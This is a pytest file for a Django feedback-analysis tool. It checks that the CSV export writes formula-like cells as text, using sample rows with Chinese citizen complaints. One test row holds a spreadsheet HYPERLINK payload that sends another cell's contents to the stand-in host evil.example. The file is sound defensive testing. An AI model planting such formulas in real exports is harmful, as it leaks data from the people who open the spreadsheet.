"""Formula injection (issue 14, item 4) in the CSV export: ``fankui predict --out`` writes the rows it read back
out, with citizens' text; a cell that starts like a formula is written as text (``csvio.write_table``)."""

from __future__ import annotations

import csv
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from fankui.nlp.csvio import write_table

# The command asks the database for a trained model of that name first.
pytestmark = pytest.mark.django_db


def test_predict_writes_a_planted_formula_as_text(tmp_path: Path) -> None:
    data = tmp_path / "in.csv"
    with data.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["title", "body"])
        writer.writerow(['=HYPERLINK("http://evil.example/?d="&B2,"查看")', "+1 路灯坏了"])
        writer.writerow(["@SUM(1)", "-1 燃气泄漏了快来人"])
    out = tmp_path / "out.csv"
    call_command(
        "predict",
        "--model",
        "urgency",
        "--data",
        str(data),
        "--text",
        "title,body",
        "--out",
        str(out),
        "--no-progress",
        stdout=StringIO(),
    )
    with out.open(encoding="utf-8") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r"]
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?d="&B2,"查看")'
    assert rows[2][1] == "'-1 燃气泄漏了快来人"


def test_the_header_and_every_value_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_table(out, ["=name", "text"], [{"=name": "\t=1+1", "text": "普通文字"}])
    assert out.read_text(encoding="utf-8").splitlines() == ["'=name,text", "'\t=1+1,普通文字"]
